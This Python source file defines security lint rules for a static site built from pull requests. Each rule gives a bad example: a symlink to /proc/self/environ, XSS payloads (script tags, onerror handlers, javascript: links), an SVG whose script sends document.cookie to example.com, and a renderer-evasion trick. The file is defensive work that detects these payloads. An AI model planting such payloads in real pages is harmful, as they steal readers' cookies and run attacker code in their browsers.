"""Rules SEC001-SEC010: what a contribution could smuggle onto the site (a link out of the
project, active content in a post or its front matter).

SEC001 is the path checks' (``checks.paths``); SEC002 onwards the content checks'
(``checks.security``); SEC010 the published-file check's (``checks.published``).
"""

from toulmin.findings import ERROR
from toulmin.rules import Family, Rule

FAMILY = Family("SEC", "security", "Security",
                "Posts and data come from pull requests: these keep a contribution from "
                "publishing files from outside the project or running code in a reader's "
                "browser.", (
    Rule("SEC001", ERROR, "a symlink whose target lies outside the project",
         "A link such as `charts/env.json -> /proc/self/environ` would publish (or run, "
         "or read) a file of the machine that builds the site: in posts/, charts/, docs/, "
         "data/, scripts/ and sources/ such a file is neither read nor published.",
         "charts/env.json -> /proc/self/environ", "charts/env.json (a file in the project)",
         "replace the link by the file itself, or remove it"),
    # -- SEC002 onwards: active content (checks.security) -------------------------------
    Rule("SEC002", ERROR, "markup in a front matter field the theme prints",
         "The theme prints a page's title, description, subtitle, tags and categories in its "
         "header, its `<meta name=\"description\">`, its tag and category pages and the feeds "
         "without escaping them: markup there runs in every reader's browser.",
         "title: \"Waiting times <script>track()</script>\"",
         "title: \"Waiting times\"",
         "write the field as plain text: no tags, no `javascript:`"),
    Rule("SEC003", ERROR, "a script element in a post",
         "A `<script>` (or an SVG `<script>`) in a contribution runs in every reader's browser; "
         "the site needs none.",
         "<script src=\"https://example.com/x.js\"></script>", "(nothing: remove it)",
         "remove the script; a chart comes from a chart definition, not a script in the page"),
    Rule("SEC004", ERROR, "an event handler attribute (on...=) in a post's HTML",
         "An `onclick=`, `onerror=` or any `on*=` attribute is a script: it runs in the "
         "reader's browser.",
         "<img src=\"x.png\" onerror=\"alert(1)\">", "<img src=\"x.png\" alt=\"...\">",
         "remove the attribute"),
    Rule("SEC005", ERROR, "a `javascript:` (or `vbscript:`, `data:` page) link",
         "A link whose address is `javascript:...` runs code when a reader follows it; a "
         "`data:text/html` address opens a page the site does not control.",
         "[the data](javascript:alert(1))", "[the data](https://digital.nhs.uk/...)",
         "link to an http(s) address or a page of the site"),
    Rule("SEC006", ERROR, "an iframe, embed or object from another host",
         "An `<iframe>`, `<embed>`, `<object>` or `<frame>` loads a page or plugin from a host "
         "the site does not control (and tells it who reads what); `srcdoc` holds a whole page.",
         "<iframe src=\"https://tracker.example/widget\"></iframe>",
         "[the widget](https://tracker.example/widget)",
         "link to the content instead of embedding it"),
    Rule("SEC007", ERROR, "an element that changes how the page behaves",
         "`<base>` redirects every relative link, `<meta http-equiv>` can send the reader "
         "elsewhere, `<form>` posts what a reader types to any host, `<link>` and `<style>` "
         "load or restyle the page: none belongs in a post.",
         "<meta http-equiv=\"refresh\" content=\"0;url=https://example.com\">",
         "(nothing: remove it)", "remove the element"),
    Rule("SEC008", ERROR, "content loaded from another host",
         "The site promises its readers that reading it makes no request to a third party: "
         "an image, video, audio, track, `srcset`, `poster`, `ping` or a style's `url()` "
         "from another host tells that host who reads what and when (the "
         "Content-Security-Policy blocks it, so the reader sees a broken image instead). "
         "Markdown images count too.",
         "![Waiting times](https://tracker.example/chart.png)",
         "![Waiting times](../assets/waiting-times.png)",
         "copy the file into docs/assets and use its path there (a link to the original "
         "is fine)"),
    Rule("SEC009", ERROR, "a post too large or too contrived to check as its rendered page",
         "Every post is also checked as the HTML it renders to, which catches what a scan of "
         "the source cannot see (a code span inside a raw HTML block, an attribute list). "
         "The Markdown renderer is slow on some input (thousands of unclosed brackets in a "
         "block), so a post over 100,000 characters, or with such blocks, is not rendered "
         "for the check: only its source is scanned, and a payload made to slip past that "
         "scan would go unseen.",
         "![](charts/![](charts/![](charts/... (thousands, one paragraph)",
         "(a post of ordinary paragraphs)",
         "split the post, or close its brackets"),
    # -- SEC010: files published as written (checks.published) ------------------------
    Rule("SEC010", ERROR, "a file published as written that a browser runs",
         "MkDocs copies every file of docs/ and the posts folder that is not Markdown to the "
         "site byte for byte. An HTML or XML page, or an SVG with a script, a handler, "
         "HTML inside it or a reference to another file, runs on the site's host when a "
         "reader opens it, and a page's Content-Security-Policy does not cover it.",
         "docs/assets/map.svg with <script>fetch('https://example.com/?'+document.cookie)</script>",
         "docs/assets/map.svg with shapes and text only",
         "write a page as Markdown; keep a picture passive (shapes, text, #fragment "
         "references)"),
))
